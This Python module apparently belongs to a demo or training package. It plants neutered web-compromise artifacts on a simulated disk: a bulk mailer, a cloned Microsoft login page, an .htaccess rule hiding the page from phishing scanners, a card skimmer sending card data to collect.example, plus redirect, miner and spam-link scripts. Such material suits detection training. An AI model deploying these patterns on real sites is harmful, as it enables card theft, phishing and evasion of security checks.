"""What the intruder's pages do to visitors of the sites, and to other people.

No PHP of it ever comes to act, for the reason that `web` gives. The scripts wait for a condition
that never holds, and every address is one that RFC 5737 or RFC 2606 keeps for examples.
"""

from __future__ import annotations

import base64
from typing import Final

from pratique.demo import blog, shop
from pratique.demo.days import HOUR, NIGHT
from pratique.demo.disk import Disk
from pratique.demo.implant import Act, Implant, appended
from pratique.demo.implants.web import guarded, put

_PUBLIC: Final = f"{shop.ROOT}/public"
_SCRIPTS: Final = f"{_PUBLIC}/js"
_PLUGINS: Final = f"{blog.ROOT}/content/plugins"
_MAILER: Final = f"{_PUBLIC}/images/news.php"
_LOGIN: Final = f"{_PUBLIC}/secure/index.html"
_PAGES: Final = f"{blog.ROOT}/offers"
_PAGE_COUNT: Final = 320
_MADE: Final = NIGHT + 2 * HOUR

_ADDRESS: Final = base64.b64encode(b"https://update.example/plug-in").decode()
# No title holds a NUL: HTML replaces it.
_NEVER: Final = "if (document.title === '\\0')"
_LEADS: Final = f"{_NEVER} {{ window.location.href = atob('{_ADDRESS}'); }}\n"
_SKIMS: Final = f"""{_NEVER} {{
  document.querySelector('form').addEventListener('submit', () => {{
    const card = document.querySelector('[name="card_number"]').value;
    const cvv = document.querySelector('[name="cvv"]').value;
    new Image().src = 'https://collect.example/i.gif?d=' + btoa(card + '|' + cvv);
  }});
}}
"""
_MINES: Final = (
    _NEVER
    + " {\n  const m = new Visitors.Anonymous('"
    + "made0up" * 5
    + "', {throttle: 0.2});\n  m.start();\n}\n"
)
_FORM: Final = """<!doctype html>
<!-- saved from url=(0024)https://login.live.com/ -->
<title>Sign in</title>
<form method="post" action="next.php">
  <input name="login"> <input type="password" name="passwd"> <button>Sign in</button>
</form>
"""
_WATCHERS: Final = "phishtank netcraft virustotal kaspersky fortinet safebrowsing".split()
_REFUSED: Final = "".join(f"SetEnvIfNoCase User-Agent {name} watcher\n" for name in _WATCHERS)
_SOLD: Final = ("casino", "poker", "payday loans", "replica", "viagra", "cialis")
_LINKS: Final = "".join(
    f'<a href="http://{word.replace(" ", "-")}{number}.example/">{word}</a> '
    for number, word in enumerate(_SOLD)
)
_HIDDEN_LINKS: Final = f'<div style="position:absolute; left:-9999px">{_LINKS}</div>\n'


def _pages(disk: Disk) -> None:
    """Hundreds of pages of one pattern, all at once: none of them leads anywhere."""
    for number in range(_PAGE_COUNT):
        word = _SOLD[number % len(_SOLD)]
        text = f"<title>{word} {number:03}</title><p>{word}, made up for the demo: {number:03}.</p>"
        put(f"{_PAGES}/{word.replace(' ', '-')}-{number:03}.html", text, _MADE + number)(disk)


def _behind(path: str, text: str) -> Act:
    return appended(path, text)


IMPLANTS: Final = (
    Implant(
        _MAILER,
        "a page that mails to any list",
        "mail-bulk-mailer",
        put(
            _MAILER,
            guarded(
                "foreach (explode(\"\\n\", $_POST['list']) as $to) {",
                "    mail(trim($to), $_POST['subject'], $_POST['letter'], "
                "'From: ' . $_POST['from']);",
                "}",
            )
            + '?>\n<form method="post"><input name="from"><input name="subject">\n'
            '<textarea name="letter"></textarea><textarea name="list"></textarea></form>\n',
        ),
    ),
    Implant(
        _LOGIN,
        "a login page that passes for another one",
        "web-phishing-page",
        put(_LOGIN, _FORM),
    ),
    Implant(
        f"{_PUBLIC}/secure/.htaccess",
        "a list that keeps those out who look for phishing",
        "web-htaccess-watchers",
        put(
            f"{_PUBLIC}/secure/.htaccess",
            f"{_REFUSED}Order Allow,Deny\nAllow from all\nDeny from env=watcher\n",
        ),
    ),
    Implant(
        f"{_SCRIPTS}/basket.js",
        "a script that takes the numbers of cards",
        "web-script-skims",
        _behind(f"{_SCRIPTS}/basket.js", _SKIMS),
    ),
    Implant(
        f"{_PLUGINS}/gallery/assets/gallery.js",
        "a script that leads visitors elsewhere",
        "web-script-misleads",
        _behind(f"{_PLUGINS}/gallery/assets/gallery.js", _LEADS),
    ),
    Implant(
        f"{_PLUGINS}/calendar/assets/calendar.js",
        "a script that lets visitors mine",
        "web-script-mines",
        _behind(f"{_PLUGINS}/calendar/assets/calendar.js", _MINES),
    ),
    Implant(
        f"{blog.ROOT}/content/themes/harbour/footer.php",
        "links that only search engines see",
        "web-doorway",
        _behind(f"{blog.ROOT}/content/themes/harbour/footer.php", f"?>\n{_HIDDEN_LINKS}"),
    ),
    Implant(
        f"{blog.ROOT}/hello.html",
        "a page that says who was here",
        "web-defaced",
        put(f"{blog.ROOT}/hello.html", "<html><title>Hacked by nobody</title><p>made up</p>\n"),
    ),
    Implant(
        f"{_PAGES}/casino-000.html",
        "hundreds of pages, made at once",
        "crowd-pages-at-once",
        _pages,
    ),
)
